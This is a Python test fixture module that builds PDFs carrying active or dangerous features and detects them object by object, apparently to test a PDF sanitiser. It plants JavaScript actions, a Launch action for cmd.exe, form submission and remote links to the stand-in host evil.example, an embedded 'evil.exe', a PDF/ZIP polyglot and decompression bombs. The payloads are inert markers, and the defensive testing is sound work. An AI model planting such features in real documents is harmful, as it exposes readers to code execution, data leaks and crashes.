"""PDFs with every feature that acts, fetches or carries; read again with pypdf, object by object."""

import io
import zlib
from collections.abc import Callable, Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from pypdf import PdfReader
from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject, StreamObject

from tests.corpus.planted import MARK, Planted

_PAGE = b"""q 0.9 0.95 1 rg 0 0 300 400 re f 0 0 0.6 rg 40 300 120 60 re f 1 0.5 0 RG 3 w 40 100 m 260 250 l S
BT /F1 18 Tf 0 g 40 260 Td (Hello, Murakami) Tj ET Q"""
Change = Callable[[pikepdf.Pdf], None]


def page_of(document: pikepdf.Pdf, content: bytes = _PAGE):
    """Add a page with a drawing and letters."""
    page = document.add_blank_page(page_size=(300, 400))
    page.obj.Contents = document.make_stream(content)
    page.obj.Resources = Dictionary(Font=Dictionary(F1=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)))
    return page


def written(*changes: Change, pages: int = 1, **options) -> bytes:
    """Write a PDF of some pages, changed."""
    document = pikepdf.new()
    for _ in range(pages):
        page_of(document)
    for change in changes:
        change(document)
    out = io.BytesIO()
    document.save(out, **options)
    return out.getvalue()


def things(data: bytes) -> Iterator[object]:
    """Walk every object of a PDF with pypdf, direct ones included; whatever has been cut off too."""
    reader = PdfReader(io.BytesIO(data))
    for number in range(1, int(reader.trailer["/Size"])):
        try:
            yield from _inside(reader.get_object(IndirectObject(number, 0, reader)))
        except Exception:
            continue
    yield from _inside(reader.trailer)


def _inside(thing, depth=0):
    if depth > 20:
        return
    yield thing
    parts = thing.values() if isinstance(thing, DictionaryObject) else thing if isinstance(thing, ArrayObject) else ()
    for part in list(parts):
        if not isinstance(part, IndirectObject):
            yield from _inside(part, depth + 1)


def has(*names: str) -> Callable[[bytes], bool]:
    """Look for names as keys or values, or for the mark in texts and streams."""
    wanted = set(names)

    def look(data: bytes) -> bool:
        for thing in things(data):
            if isinstance(thing, DictionaryObject) and (wanted & {*map(str, thing.keys()), *map(str, thing.values())}):
                return True
            if isinstance(thing, StreamObject) and MARK.encode() in thing.get_data():
                return True
            if isinstance(thing, str) and (MARK in thing or thing in wanted):
                return True
        return False

    return look


def _script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=f"app.alert('{MARK}')")


def _annotate(document: pikepdf.Pdf, **parts) -> None:
    page = document.pages[0].obj
    note = document.make_indirect(Dictionary(Type=Name.Annot, Rect=[0, 0, 1, 1], **parts))
    page.Annots = Array([*page.get("/Annots", []), note])


def _open_action(document):
    document.Root.OpenAction = document.make_indirect(_script())


def _names(document):
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), document.make_indirect(_script())])))


def _additional(document):
    document.Root.AA = Dictionary(WC=_script())
    document.pages[0].obj.AA = Dictionary(O=_script())


def _link_with(action: Callable[[], Dictionary]) -> Change:
    return lambda document: _annotate(document, Subtype=Name.Link, A=action())


def _attachment(document):
    document.attachments["evil.exe"] = MARK.encode()


def _associated(document):
    stream = document.make_stream(MARK.encode(), Type=Name.EmbeddedFile)
    document.Root.AF = Array([document.make_indirect(Dictionary(Type=Name.Filespec, F="x", EF=Dictionary(F=stream)))])


def _form(document):
    field = document.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T="name", V=String(MARK), F=4, Rect=[40, 40, 200, 60],
        DA="/F1 12 Tf 0 g", A=Dictionary(S=Name.SubmitForm, F="http://evil.example/")))
    document.pages[0].obj.Annots = Array([field])
    document.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=document.make_stream(f"<xdp>{MARK}</xdp>".encode()))


def _three_d(document):
    _annotate(document, Subtype=Name("/3D"), **{"3DD": document.make_stream(MARK.encode(), Type=Name("/3D"), Subtype=Name.U3D)})


def _rich_media(document):
    _annotate(document, Subtype=Name.RichMedia, RichMediaContent=Dictionary(Assets=document.make_stream(MARK.encode())))


def _movie(document):
    _annotate(document, Subtype=Name.Movie, Movie=Dictionary(F="http://evil.example/m"), A=Dictionary(S=Name.Movie))


def _file_note(document):
    stream = document.make_stream(MARK.encode(), Type=Name.EmbeddedFile)
    _annotate(document, Subtype=Name.FileAttachment, FS=Dictionary(Type=Name.Filespec, F="x", EF=Dictionary(F=stream)))


def _metadata(document):
    with document.open_metadata() as metadata:
        metadata["dc:title"] = MARK
    document.docinfo["/Author"] = MARK


def _hidden_in_resources(document):
    document.pages[0].obj.Resources.Properties = Dictionary(P0=Dictionary(S=Name.JavaScript, JS=f"x{MARK}"))
    document.pages[0].obj.Resources.XObject = Dictionary(A=document.make_stream(MARK.encode(), Type=Name.XObject, Subtype=Name.PS))


def _outline(document):
    item = document.make_indirect(Dictionary(Title=String(MARK), A=_script()))
    document.Root.Outlines = document.make_indirect(Dictionary(First=item, Last=item, Count=1))
    item.Parent = document.Root.Outlines


_PLANTED: tuple[tuple[str, Change, tuple[str, ...], str], ...] = (
    ("JavaScript on opening", _open_action, ("/OpenAction", "/JavaScript"), "open_action"),
    ("JavaScript by name", _names, ("/JavaScript", "/Names"), "javascript"),
    ("additional actions", _additional, ("/AA",), "open_action"),
    ("launch", _link_with(lambda: Dictionary(S=Name.Launch, F="cmd.exe")), ("/Launch",), "launch"),
    ("URI", _link_with(lambda: Dictionary(S=Name.URI, URI="http://evil.example/")), ("/URI",), "link"),
    ("go to a remote file", _link_with(lambda: Dictionary(S=Name.GoToR, F=r"\\evil.example\x")), ("/GoToR",), "remote_goto"),
    ("go to an embedded file", _link_with(lambda: Dictionary(S=Name.GoToE, F="x")), ("/GoToE",), "remote_goto"),
    ("embedded file", _attachment, ("/EmbeddedFile", "/EmbeddedFiles"), "embedded_file"),
    ("associated file", _associated, ("/AF", "/EmbeddedFile"), "embedded_file"),
    ("file in a note", _file_note, ("/FileAttachment",), "embedded_file"),
    ("submitting form", _form, ("/SubmitForm", "/AcroForm", "/FT"), "submit_form"),
    ("XFA", _form, ("/XFA",), "xfa"),
    ("3D", _three_d, ("/3D", "/3DD"), "three_d"),
    ("rich media", _rich_media, ("/RichMedia",), "rich_media"),
    ("movie", _movie, ("/Movie",), "rich_media"),
    ("metadata", _metadata, ("/Metadata", "/Author"), "metadata"),
    ("hidden among resources", _hidden_in_resources, ("/JS", "/PS"), "javascript"),
    ("outline that acts", _outline, ("/Outlines",), "javascript"),
)


def planted() -> list[Planted]:
    """Every PDF with something planted; also one that is an archive at the same time."""
    found = [Planted(feature, "form.pdf", written(change), _any(names), told) for feature, change, names, told in _PLANTED]
    archive = written() + b"PK\x03\x04" + MARK.encode()
    return [*found, Planted("PDF and archive at once", "a.pdf", archive, lambda data: b"PK\x03\x04" in data)]


def _any(names: tuple[str, ...]) -> Callable[[bytes], bool]:
    """Look for the names alone: what was typed into a form stays on the page."""
    wanted = set(names)
    return lambda data: any(isinstance(thing, DictionaryObject) and wanted & {*map(str, thing.keys()), *map(str, thing.values())}
                            for thing in things(data))


def bomb(*, size: int, twice: bool = False) -> bytes:
    """A PDF whose page grows to `size` bytes when it is read; packed twice it grows further still."""
    packed = zlib.compress(b" " * size, 9)

    def change(document):
        stream = document.make_stream(zlib.compress(packed, 9) if twice else packed)
        stream.Filter = Array([Name.FlateDecode, Name.FlateDecode]) if twice else Name.FlateDecode
        document.pages[0].obj.Contents = stream

    return written(change, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def deep(levels: int) -> bytes:
    """A PDF with arrays in arrays in arrays."""
    return written().replace(b"/Type /Catalog", b"/Type /Catalog /X " + b"[" * levels + b"]" * levels, 1)


def with_hidden_layer(document: pikepdf.Pdf) -> None:
    """Put a black area onto a layer that is switched off."""
    layer = document.make_indirect(Dictionary(Type=Name.OCG, Name=String("hidden")))
    document.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=Dictionary(OFF=Array([layer]), ON=Array([]),
                                                                             AS=Array([Dictionary(Event=Name.Print, OCGs=Array([layer]), Category=Array([Name.Print]))])))
    page = document.pages[0].obj
    page.Resources.Properties = Dictionary(L0=layer)
    page.Contents = Array([page.Contents, document.make_stream(b" /OC /L0 BDC 0 g 0 0 300 400 re f EMC")])


def with_named_parts(document: pikepdf.Pdf) -> None:
    """Draw a form that happens to be called /A, as some programs do."""
    drawn = document.make_stream(b"1 0 0 rg 0 0 50 50 re f", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 50, 50])
    page = document.pages[0].obj
    page.Resources.XObject = Dictionary(A=drawn, JS=drawn)
    page.Contents = Array([page.Contents, document.make_stream(b" q 1 0 0 1 200 20 cm /A Do Q q 1 0 0 1 20 20 cm /JS Do Q")])


def with_filled_form(document: pikepdf.Pdf) -> None:
    """A form with what somebody has typed, drawn as its program drew it."""
    look = document.make_stream(b"/Tx BMC BT /F1 12 Tf 0 g 2 4 Td (typed in) Tj ET EMC", Type=Name.XObject, Subtype=Name.Form,
                                BBox=[0, 0, 160, 20], Resources=document.pages[0].obj.Resources)
    field = document.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T="name", V="typed in", F=4, Rect=[40, 40, 200, 60],
        DA="/F1 12 Tf 0 g", AP=Dictionary(N=look)))
    document.pages[0].obj.Annots = Array([field])
    document.Root.AcroForm = Dictionary(Fields=Array([field]), DR=document.pages[0].obj.Resources, DA="/F1 12 Tf 0 g")


HARMLESS: dict[str, tuple[Change, ...]] = {
    "plain": (), "hidden layer": (with_hidden_layer,), "parts with short names": (with_named_parts,),
    "filled form": (with_filled_form,),
}
